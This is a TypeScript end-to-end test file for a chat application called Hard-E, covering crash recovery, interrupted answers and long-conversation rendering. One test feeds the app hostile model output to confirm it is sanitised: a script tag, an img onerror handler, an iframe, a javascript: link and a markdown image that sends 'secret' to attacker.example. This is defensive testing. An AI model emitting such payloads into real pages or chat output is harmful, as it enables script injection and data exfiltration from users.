import { expect, test } from 'vitest'
import { openDatabase } from '#main/store/database.ts'
import { startOpenAiStandIn } from '#tests/standins/openai/server.ts'
import { saveSettings, typeBrain } from './support/brain.ts'
import { answered, ask, composer, newestAnswer, said } from './support/chat.ts'
import { seedLongConversation } from './support/long-conversation.ts'
import { useStage } from './support/stage.ts'

const stage = useStage()
const lost = /WebSocket connection|ERR_CONNECTION_REFUSED|Failed to load resource/

test('kill -9 under an open page loses the conversation, or the page does not say so', async () => {
  const { page } = await stage.open({ expected: lost })
  const before = await (await ask(page, 'Which jobs are in materials ordered?')).textContent()
  const place = new URL(page.url()).hash
  await composer(page).fill('Typed while it was down')
  const { port } = stage.app()
  await stage.app().kill()
  await page.getByText('Hard-E is not answering. What you type is kept.').waitFor()
  await stage.restart(port)
  await page.goto(await stage.app().newLink())
  await page.goto(`${stage.app().origin}/${place}`)
  await answered(page)
  expect(await newestAnswer(page).textContent()).toBe(before)
  expect(await composer(page).inputValue()).toBe('Typed while it was down')
  await page.getByText('Hard-E is not answering').waitFor({ state: 'detached' })
  const jobs = await ask(page, 'Which jobs are in negotiation?')
  expect(await jobs.textContent()).toContain('2279-01')
})

test('kill -9 in the middle of an answer loses the words that were on the screen', async () => {
  const words = Array.from({ length: 400 }, (_, index) => `word${index}`).join(' ')
  const reply = { kind: 'text', text: words, deltaGapMs: 15 } as const
  const server = await startOpenAiStandIn({ keys: null, script: () => ({ reply }) })
  try {
    const { page } = await stage.open({ path: '/settings/brain', expected: lost })
    await typeBrain(page, server.url, 'llama3.1')
    await saveSettings(page)
    await page.keyboard.press('Alt+1')
    await composer(page).fill('/knowledge How long is the roof warranty?')
    await composer(page).press('Enter')
    await newestAnswer(page).getByText('word20').waitFor()
    const { port } = stage.app()
    const place = new URL(page.url()).hash
    await stage.app().kill()
    await stage.restart(port)
    await page.goto(await stage.app().newLink())
    await page.goto(`${stage.app().origin}/${place}`)
    await newestAnswer(page).getByText('Hard-E was closed in the middle of this answer.').waitFor()
    expect(await newestAnswer(page).textContent()).toContain('word20')
  } finally {
    await server.close()
  }
})

test('what a model writes runs, loads or leads somewhere without asking', async () => {
  const hostile = [
    '<img src="https://attacker.example/p.png" onerror="document.title=1">',
    '<script>document.title = "owned"</script>',
    '![picture](https://attacker.example/pixel.png?d=secret)',
    '[click me](javascript:document.title="owned")',
    '<iframe src="https://attacker.example"></iframe>',
    '[a page](https://attacker.example/page)',
  ].join('\n\n')
  const reply = { kind: 'text', text: hostile } as const
  const server = await startOpenAiStandIn({ keys: null, script: () => ({ reply }) })
  try {
    const { page, context } = await stage.open({ path: '/settings/brain' })
    await typeBrain(page, server.url, 'llama3.1')
    if ((await page.getByRole('button', { name: 'Save changes' }).count()) > 0) await saveSettings(page)
    const title = await page.title()
    await page.keyboard.press('Alt+1')
    const answer = await ask(page, '/knowledge What does the paint cost?')
    await answer.getByText('<script>').waitFor()
    await answer.getByText('Picture left out: picture').waitFor()
    expect(await answer.locator('img, script, iframe').count()).toBe(0)
    await answer.getByText('click me').click()
    await answer.getByText('a page').click()
    await page.getByRole('dialog').getByText('This leaves Hard-E').waitFor()
    await page.keyboard.press('Escape')
    expect(await page.title()).toBe(title)
    expect(context.pages()).toHaveLength(1)
  } finally {
    await server.close()
  }
})

test('a conversation of 5,000 messages hangs, or draws them all', async () => {
  const db = openDatabase(`${stage.app().dataDir}/hard-e.db`)
  const id = seedLongConversation(db, 5_000)
  db.close()
  const { page } = await stage.open({ path: `/chat/${id}` })
  await newestAnswer(page).getByText('Answer number 4999').waitFor()
  const drawn = page.getByRole('article')
  expect(await drawn.count()).toBeLessThan(300)
  const log = page.getByRole('log', { name: 'Messages' })
  await log.focus()
  await page.keyboard.press('Home')
  await said(page, 'Question number 0.').waitFor()
  expect(await drawn.count()).toBeLessThan(300)
  await page.getByRole('button', { name: 'Jump to latest' }).click()
  await newestAnswer(page).getByText('Answer number 4999').waitFor()
  await log.hover()
  await page.mouse.wheel(0, -4_000)
  await page.getByRole('button', { name: 'Jump to latest' }).waitFor()
  expect(await drawn.count()).toBeLessThan(300)
})
